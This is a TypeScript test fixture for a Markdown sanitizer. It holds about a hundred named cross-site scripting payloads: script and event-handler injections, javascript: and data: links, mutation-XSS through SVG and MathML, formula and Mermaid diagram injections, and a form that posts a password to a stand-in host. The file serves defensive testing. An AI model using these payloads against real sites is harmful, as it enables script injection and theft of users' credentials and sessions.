/** Attacks on pages, each by the name of the trick. For the tests of the sanitizer. */
export const hostileMarkdown: Record<string, string> = {
  'a script': '<script>alert(1)</script>',
  'a script in capitals': '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  'a script cut in two': '<scr<script>ipt>alert(1)</scr</script>ipt>',
  'a broken script': '<script\n>alert(1)',
  'a script after a comment': '<!--><script>alert(1)</script>-->',
  'an image that fails': '<img src=x onerror=alert(1)>',
  'an image with slashes': '<img/src="x"/onerror="alert(1)">',
  'an image with a backtick': '<img src=`x` onerror=alert(1)>',
  'a drawing that loads': '<svg onload=alert(1)>',
  'a script in a drawing': '<svg><script>alert(1)</script></svg>',
  'a link in a drawing': '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>',
  'an animated link':
    '<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>',
  'HTML in a drawing': '<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>',
  'use of another drawing': '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
  'a style in a drawing': '<svg><style><img src=x onerror=alert(1)></style></svg>',
  'mutation by MathML':
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  'mutation by annotations':
    '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  'mutation by a form':
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  'mutation by noscript': '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  'mutation by a template': '<template><script>alert(1)</script></template>',
  'mutation by a select':
    '<select><template><style><!--</style><a rel="--></style></template></select><img src onerror=alert(1)>">',
  'mutation by a title': '<title><a title="</title><img src=x onerror=alert(1)>">',
  'a frame': '<iframe src="javascript:alert(1)"></iframe>',
  'a frame with a document': '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  'an object': '<object data="data:text/html,<script>alert(1)</script>"></object><embed src=//evil.example>',
  'a form':
    '<form action="//evil.example"><input name=password><button formaction=javascript:alert(1)>x</button></form>',
  'a base': '<base href="//evil.example/">',
  'a refresh': '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  'a style sheet': '<link rel=stylesheet href=//evil.example><style>@import "//evil.example"</style>',
  'a style': '<p style="position:fixed;inset:0;background:url(//evil.example)">x</p>',
  'a details element that opens': '<details open ontoggle=alert(1)>x</details>',
  'a body': '<body onload=alert(1)><html onclick=alert(1)>',
  'a marquee': '<marquee onstart=alert(1)>x</marquee>',
  'a video': '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
  'clobbered names': '<img name=cookie><form id=document><input id=getElementById></form>',
  'clobbered names by headings':
    '## cookie\n\n## getElementById\n\n## location\n\n## __proto__\n\n## constructor',
  'clobbered names by attributes':
    ':::note{#document .callout}\nx\n:::\n\n::::tabs{#forms}\n:::tab[x]{#body}\nx\n:::\n::::',
  'a javascript link': '[x](javascript:alert(1))',
  'a javascript link in capitals': '[x](JaVaScRiPt:alert(1))',
  'a javascript link with entities':
    '[x](&#106;avascript&colon;alert(1)) [x](javascript&#58;alert(1)) [x](&#x6A&#x61&#x76&#x61script:alert(1))',
  'a javascript link with a tab':
    '[x](<java\tscript:alert(1)>) [x](java&#9;script:alert(1)) [x](java&Tab;script&colon;alert(1))',
  'a javascript link with a line break': '[x](java&#10;script:alert(1)) [x](java&NewLine;script:alert(1))',
  'a javascript link with a control character':
    '[x](\u0001javascript:alert(1)) [x](&#1;javascript:alert(1)) [x](\u2028javascript:alert(1))',
  'a javascript link after spaces': '[x](<  javascript:alert(1)>)',
  'a javascript link with escapes': '[x](javascript\\:alert\\(1\\)) [x](\\javascript:alert(1))',
  'a javascript link by reference': '[x][1]\n\n[1]: javascript:alert(1) "x"',
  'a javascript link in angles': '<javascript:alert(1)> <vbscript:x> <data:text/html,x>',
  'a javascript link in a link': '[![x](javascript:alert(1))](javascript:alert(1))',
  'nested links': '[a [b](javascript:alert(1)) c](javascript:alert(2))',
  'other schemes':
    '[x](vbscript:msgbox(1)) [x](file:///etc/passwd) [x](blob:https://x/y) [x](view-source:x) [x](filesystem:x)',
  'a data link': '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  'a data image': '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  'a javascript image': '![x](javascript:alert(1)) ![x](JAVASCRIPT&colon;alert(1))',
  'an image that breaks out':
    '![x](https://evil.example/"onerror="alert(1)) ![" onerror="alert(1)](/api/files/media/a-1x1.webp)',
  'an image title that breaks out': '![x](/api/files/media/a-1x1.webp "\\"><script>alert(1)</script>")',
  'an image of ours that is none':
    '![x](/api/files/media/../../session-1x1.webp) ![x](/api/session) ![x](//evil.example/a-1x1.webp) ![x](/\\evil.example/a-1x1.webp)',
  'a link title that breaks out': '[x](https://a.example "\\" onmouseover=\\"alert(1)")',
  'an autolink that breaks out': 'https://a.example/"onclick="alert(1) www.a.example/<script>',
  'attributes of a callout': ':::note{onclick=alert(1) style="position:fixed" href="javascript:x"}\nx\n:::',
  'a title of a callout': ':::note[<img src=x onerror=alert(1)>]{.x onclick=alert(1)}\nx\n:::',
  'attributes of a word':
    ':a[x]{href="javascript:alert(1)" onmouseover=alert(1)} :script[alert(1)] :iframe[]{src=//evil.example}',
  'attributes of a leaf':
    '::iframe{src="//evil.example" srcdoc="<script>alert(1)</script>"}\n\n::script[alert(1)]{src=x}',
  'attributes of details': ':::details[x]{open ontoggle=alert(1) name=x}\nx\n:::',
  'names of tabs':
    '::::tabs{onclick=alert(1)}\n:::tab[<img src=x onerror=alert(1)>]{role=alert onfocus=alert(1)}\nx\n:::\n::::',
  'a video of elsewhere':
    '::video[x]{src="javascript:alert(1)"}\n\n::video[x]{src="//evil.example/a-1x1.mp4"}\n\n::video[x]{src="data:video/mp4;base64,AAAA"}',
  'a poster of elsewhere':
    '::video[x]{src="/api/files/media/a-1x1.mp4" poster="https://evil.example/x.png" onplay=alert(1)}',
  'a video title that breaks out':
    '::video[a" autofocus onfocus="alert(1)]{src="/api/files/media/a-1x1.mp4"}',
  'the language of a code block': '```"><script>alert(1)</script>\nx\n```',
  'the title of a code block': '```ts title="<img src=x onerror=alert(1)>"\nx\n```',
  'the words of a code block': '```html\n<script>alert(1)</script><img src=x onerror=alert(1)>\n```',
  'code in a line': '`<script>alert(1)</script>` and `"><img src=x onerror=alert(1)>`',
  'a footnote':
    '[^<script>]: <script>alert(1)</script>\n\nx[^<script>] and [^1].\n\n[^1]: [x](javascript:alert(1))',
  'a cell': '| <svg onload=alert(1)> |\n| --- |\n| <iframe src=//evil.example> |',
  'a task': '- [x] <input autofocus onfocus=alert(1)>',
  'a heading': '## <img src=x onerror=alert(1)> [x](javascript:alert(1)) "onclick="x"',
  'an alert': '> [!NOTE]\n> <img src=x onerror=alert(1)>',
  'a formula that links': '$\\href{javascript:alert(1)}{x}$ $\\url{javascript:alert(1)}$',
  'a formula with HTML':
    '$\\htmlId{x}{a} \\htmlClass{x}{a} \\htmlStyle{position:fixed}{a} \\htmlData{x=y}{a}$',
  'a formula that loads': '$$\n\\includegraphics[width=1em]{https://evil.example/x.png}\n$$',
  'a formula with a colour that breaks out':
    '$\\color{red" onclick="alert(1)}x$ $\\textcolor{url(//evil.example)}{x}$',
  'a formula with markup':
    '$\\text{</annotation><script>alert(1)</script>}$ $\\text{</math><img src=x onerror=alert(1)>}$',
  'a formula that is wrong': '$\\frac{<img src=x onerror=alert(1)>$ $\\unknown<script>alert(1)</script>$',
  'a formula that expands without end':
    '$\\def\\a{\\a\\a}\\a$ $\\newcommand{\\b}{\\b\\b}\\b$ $\\edef\\c{\\c}\\c$',
  'a formula that is huge': '$\\rule{1000000em}{1000000em}$ $\\kern{99999em}$',
  'a diagram that acts':
    '```mermaid\nflowchart LR\nA-->B\nclick A "javascript:alert(1)"\nclick B call alert(1)\nclick A href "javascript:alert(1)" _self\n```',
  'a diagram with HTML':
    '```mermaid\nflowchart LR\nA["<img src=x onerror=alert(1)>"] --> B["<script>alert(1)</script>"]\nB -->|"<svg onload=alert(1)>"| C{{"<a href=javascript:x>x</a>"}}\n```',
  'a diagram with entities':
    '```mermaid\nflowchart LR\nA["&lt;script&gt;alert(1)&lt;/script&gt;"] --> B["&quot; onload=&quot;alert(1)"]\n```',
  'a diagram with formatted HTML':
    '```mermaid\nflowchart LR\nA["<b onclick=alert(1)>x</b><br/><i>y</i>"] --> B["<b><script>alert(1)</script></b>"]\n```',
  'a diagram with styles':
    '```mermaid\nflowchart LR\nA:::x --> B\nstyle A fill:url(javascript:alert(1)),stroke:red;background:url(//evil.example)\nclassDef x fill:#f00" onload="alert(1)\nlinkStyle 0 stroke:url(//evil.example)\n```',
  'a diagram with a theme':
    '```mermaid\n%%{init: {"theme":"base","themeCSS":"@import url(//evil.example)","securityLevel":"loose"}}%%\nflowchart LR\nA-->B\n```',
  'a diagram with a hostile title':
    '```mermaid\nsequenceDiagram\naccTitle: " onload="alert(1)\nA->>B: <script>alert(1)</script>\nNote over A: </text><script>alert(1)</script>\n```',
  'a diagram with hostile names':
    '```mermaid\nclassDiagram\nclass A~T~{\n+<script>alert(1)</script> x\n}\nA <|-- B : "onload=alert(1)\n```',
  'a chart with hostile labels':
    '```mermaid\nxychart-beta\ntitle "<script>alert(1)</script>"\nx-axis ["<img src=x>", "\\" onload=\\"x"]\nbar [1, 2]\n```',
  'an entity with hostile attributes':
    '```mermaid\nerDiagram\nA {\nstring x PK "<script>alert(1)</script>"\n}\nA ||--o{ B : "<img src=x onerror=alert(1)>"\n```',
  'a diagram with hostile front matter':
    '```mermaid\n---\ntitle: <script>alert(1)</script>\nconfig:\n  securityLevel: loose\n---\nflowchart LR\nA-->B\n```',
  'a drawing by hand that acts':
    '```svg drawing\n<svg viewBox="0 0 9 9" onload="alert(1)" style="background:url(//evil.example)"><path d="M0 0" fill="url(//evil.example)" onclick="alert(1)"/><text id="location" x="url(x)">&lt;script&gt;alert(1)&lt;/script&gt;</text></svg>\n```',
  'a drawing by hand with other elements':
    '```svg drawing\n<svg><foreignObject><p><a href="javascript:alert(1)">x</a></p></foreignObject><image href="//evil.example"/></svg>\n```',
  'an ideographic full stop': '[x](javascript：alert(1)) [x](ｊａｖａｓｃｒｉｐｔ:alert(1))',
  'a null character': '[x](java\u0000script:alert(1)) <scr\u0000ipt>alert(1)</script>',
  'text that changes direction': '[x](https://a.example/\u202Egpj.exe) \u202Ealert',
  'a polyglot':
    'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e',
}
